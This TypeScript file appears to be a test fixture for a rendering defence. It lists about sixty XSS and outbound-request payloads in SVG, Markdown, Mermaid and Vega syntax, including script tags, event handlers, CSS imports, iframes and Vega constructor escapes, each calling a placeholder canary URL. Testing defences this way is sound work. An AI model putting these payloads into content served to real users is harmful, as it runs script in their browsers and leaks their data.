/*
 * Attacks in the syntax of a single format. `{{http}}` is a URL of the canary, `CODE` a script that calls it.
 */

export interface FormatAttack {
  readonly format: 'svg' | 'markdown' | 'mermaid' | 'vega'
  readonly name: string
  readonly source: string
  /**
   * A page without our defence in which the attack succeeds, needed if the source alone does not show this in a page.
   * It contains the library with its least strict settings, or the markup that the library would produce.
   */
  readonly control?: string
}

const code = "new Image().src='{{http}}'"
const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" ${attributes}>${inside}<rect width="20" height="20"/></svg>`
const svgAttack = (name: string, inside: string, attributes = ''): FormatAttack => ({
  format: 'svg',
  name: `svg ${name}`,
  source: svg(inside, attributes),
})
const markdown = (name: string, source: string, control = source): FormatAttack => ({
  format: 'markdown',
  name: `markdown ${name}`,
  source: `# Drawn\n\n${source}\n`,
  control,
})
const image = '<img src="{{http}}">'
const mermaid = (name: string, source: string, control = image): FormatAttack => ({
  format: 'mermaid',
  name: `mermaid ${name}`,
  source,
  control,
})
const vega = (name: string, spec: object, control = image): FormatAttack => ({
  format: 'vega',
  name: `vega ${name}`,
  source: JSON.stringify(spec),
  control,
})
const rows = { values: [{ a: 1 }] }
const expression = 'constructor.constructor(\'new Image().src="{{http}}"\')()'

export const formatAttacks: readonly FormatAttack[] = [
  svgAttack('script', `<script>${code}</script>`),
  svgAttack('script CDATA', `<script><![CDATA[${code}]]></script>`),
  svgAttack('script address', '<script href="{{http}}"></script>'),
  svgAttack('script xlink', '<script xlink:href="{{http}}"></script>'),
  svgAttack('onload', '', `onload="${code}"`),
  svgAttack(
    'unquoted handler',
    `<foreignObject><img src=x onerror=${code.replace(' ', '/**/')}></img></foreignObject>`,
  ),
  svgAttack(
    'animation handler',
    `<rect width="9" height="9"><animate attributeName="x" dur="1ms" onbegin="${code}"/></rect>`,
  ),
  svgAttack('image', '<image href="{{http}}" width="9" height="9"/>'),
  svgAttack('image xlink', '<image xlink:href="{{http}}" width="9" height="9"/>'),
  svgAttack(
    'image set later',
    '<image width="9" height="9"><set attributeName="href" to="{{http}}"/></image>',
  ),
  svgAttack(
    'filter image',
    '<filter id="f"><feImage href="{{http}}"/></filter><rect width="99" height="99" filter="url(#f)"/>',
  ),
  svgAttack('style import', '<style>@import url({{http}});</style>'),
  svgAttack('style background', '<style>svg { background: url({{http}}) }</style>'),
  svgAttack(
    'style attribute',
    '<foreignObject width="99" height="99"><div xmlns="http://www.w3.org/1999/xhtml" style="width:50px;height:50px;background:url({{http}})">x</div></foreignObject>',
  ),
  svgAttack(
    'font',
    '<style>@font-face { font-family: f; src: url({{http}}) } text { font-family: f }</style><text y="20">t</text>',
  ),
  svgAttack(
    'frame',
    '<foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{{http}}"></iframe></foreignObject>',
  ),
  svgAttack(
    'object',
    '<foreignObject width="99" height="99"><object xmlns="http://www.w3.org/1999/xhtml" data="{{http}}"></object></foreignObject>',
  ),
  svgAttack(
    'link sheet',
    '<foreignObject><link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{{http}}"/></foreignObject>',
  ),
  svgAttack(
    'refresh',
    '<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={{http}}"/></foreignObject>',
  ),
  svgAttack(
    'list picture',
    '<foreignObject width="99" height="99"><div xmlns="http://www.w3.org/1999/xhtml" style="list-style:url({{http}}) inside;display:list-item">x</div></foreignObject>',
  ),
  markdown('picture', '![p]({{http}})', image),
  markdown('reference picture', '![p][r]\n\n[r]: {{http}}', image),
  markdown('raw picture', image),
  markdown('raw script', `<script>${code}</script>`),
  markdown('raw handler', `<img src="data:," onerror="${code}">`),
  markdown('raw svg handler', `<svg onload="${code}"></svg>`),
  markdown('raw details', `<details open ontoggle="${code}"><summary>s</summary>x</details>`),
  markdown('raw frame', '<iframe src="{{http}}"></iframe>'),
  markdown(
    'raw srcdoc',
    `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
    `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  ),
  markdown('raw style', '<style>body { background: url({{http}}) }</style>'),
  markdown('raw sheet', '<link rel="stylesheet" href="{{http}}">'),
  markdown('raw refresh', '<meta http-equiv="refresh" content="0;url={{http}}">'),
  markdown('raw object', '<object data="{{http}}"></object>'),
  markdown('raw video', '<video poster="{{http}}" autoplay></video>'),
  markdown('formula picture', '$\\includegraphics{ {{http}} }$', image),
  markdown('formula data', `$\\htmlData{x=1}{a}$ $\\href{javascript:${code}}{a}$`, image),
  markdown('mermaid fence', '```mermaid\nflowchart LR\nA["<img src=\'{{http}}\'>"] --> B\n```', image),
  mermaid('label picture', 'flowchart LR\n  A["<img src=\'{{http}}\'>"] --> B'),
  mermaid(
    'label handler',
    `flowchart LR\n  A["<img src='data:,' onerror='${code.replaceAll("'", '&quot;')}'>"] --> B`,
  ),
  mermaid('label script', `flowchart LR\n  A["<script>${code}</script>"] --> B`),
  mermaid('picture node', 'flowchart LR\n  A@{ img: "{{http}}", label: "x", w: 60, h: 60 } --> B'),
  mermaid('click call', 'flowchart LR\n  A --> B\n  click A call fired()'),
  mermaid('click script', `flowchart LR\n  A --> B\n  click A href "javascript:${code}"`),
  mermaid(
    'loose directive',
    `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart LR\n  A["<img src='data:,' onerror='${code.replaceAll("'", '&quot;')}'>"] --> B`,
  ),
  mermaid(
    'theme sheet',
    '%%{init: {"themeCSS": "* { background: url({{http}}) } @import url({{http}});"}}%%\nflowchart LR\n  A --> B',
  ),
  mermaid(
    'theme variable',
    '%%{init: {"themeVariables": {"primaryColor": "#fff;background:url({{http}})"}}}%%\nflowchart LR\n  A --> B',
  ),
  mermaid(
    'font family',
    '---\nconfig:\n  fontFamily: "a;} * { background: url({{http}}) "\n---\nflowchart LR\n  A --> B',
  ),
  mermaid('style', 'flowchart LR\n  A --> B\n  style A fill:url({{http}}),background:url({{http}})'),
  mermaid(
    'sequence links',
    'sequenceDiagram\n  participant A\n  link A: x @ {{http}}\n  A->>A: <img src={{http}}>',
  ),
  vega('data', { data: { url: '{{http}}' }, mark: 'bar' }),
  vega('data in Vega', {
    $schema: 'https://vega.github.io/schema/vega/v6.json',
    data: [{ name: 't', url: '{{http}}' }],
    marks: [],
  }),
  vega('data by signal', {
    $schema: 'https://vega.github.io/schema/vega/v6.json',
    signals: [{ name: 'u', value: '{{http}}' }],
    data: [{ name: 't', url: { signal: 'u' } }],
    marks: [],
  }),
  vega('lookup', {
    data: rows,
    transform: [{ lookup: 'a', from: { data: { url: '{{http}}' }, key: 'a', fields: ['b'] } }],
    mark: 'bar',
  }),
  vega('picture mark', {
    data: rows,
    mark: { type: 'image', url: '{{http}}', width: 20, height: 20 },
    encoding: { x: { field: 'a', type: 'quantitative' } },
  }),
  vega('picture field', {
    data: { values: [{ u: '{{http}}', a: 1 }] },
    mark: { type: 'image', width: 20, height: 20 },
    encoding: { url: { field: 'u' }, x: { field: 'a', type: 'quantitative' } },
  }),
  vega('link', {
    data: rows,
    mark: 'point',
    encoding: { href: { value: '{{http}}' }, x: { field: 'a', type: 'quantitative' } },
  }),
  vega(
    'expression',
    { data: rows, transform: [{ calculate: expression, as: 'b' }], mark: 'bar' },
    `<script>({}).${expression}</script>`,
  ),
  vega(
    'signal',
    {
      $schema: 'https://vega.github.io/schema/vega/v6.json',
      signals: [{ name: 's', update: expression }],
      marks: [],
    },
    `<script>({}).${expression}</script>`,
  ),
  vega(
    'datum constructor',
    { data: rows, transform: [{ filter: `datum.${expression}` }], mark: 'bar' },
    `<script>({}).${expression}</script>`,
  ),
  vega('embed options', {
    usermeta: {
      embedOptions: {
        actions: true,
        patch: '{{http}}',
        config: '{{http}}',
        loader: { baseURL: '{{http}}', http: { credentials: 'include' } },
      },
    },
    data: rows,
    mark: 'bar',
  }),
  vega('embed renderer', {
    usermeta: {
      embedOptions: {
        ast: false,
        hover: true,
        defaultStyle: '@import url({{http}});',
        theme: 'dark',
        downloadFileName: '{{http}}',
      },
    },
    data: rows,
    transform: [{ calculate: expression, as: 'b' }],
    mark: 'bar',
  }),
  vega('map', { data: { url: '{{http}}', format: { type: 'topojson', feature: 'x' } }, mark: 'geoshape' }),
  vega('font', { config: { font: "x'; background: url({{http}})" }, title: 'T', data: rows, mark: 'bar' }),
]
